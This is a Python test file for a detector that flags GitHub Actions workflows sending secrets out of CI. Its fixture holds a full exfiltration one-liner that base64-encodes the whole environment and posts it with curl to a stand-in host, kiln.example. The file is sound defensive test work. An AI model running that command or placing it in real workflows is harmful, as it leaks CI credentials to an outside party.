from knownhands.records import Answer

WORKFLOW = """\
on: push
jobs:
  fire:
    runs-on: ubuntu-latest
    steps:
      - run: %s
        env:
          POTS: ${{ secrets.POTS }}
"""
SENT = 'curl -s -d "$(env | base64)" https://kiln.example/in'


def test_a_job_that_sends_a_secret_to_somebody_is_told(ask):
    finding = ask("sends_secrets_from_ci", ".github/workflows/kiln.yml", WORKFLOW % SENT)
    assert finding.answer is Answer.YES
    assert (finding.evidence[0].ref, finding.evidence[0].line) == (".github/workflows/kiln.yml", 6)


def test_a_job_that_logs_in_with_it_is_not(ask):
    login = 'curl -s -H "Authorization: Bearer $POTS" https://kiln.example/in'
    assert ask("sends_secrets_from_ci", ".github/workflows/kiln.yml", WORKFLOW % login).answer is Answer.NO


def test_a_script_outside_ci_is_not(ask):
    assert ask("sends_secrets_from_ci", "scripts/fire.sh", SENT + "\n").answer is Answer.NO
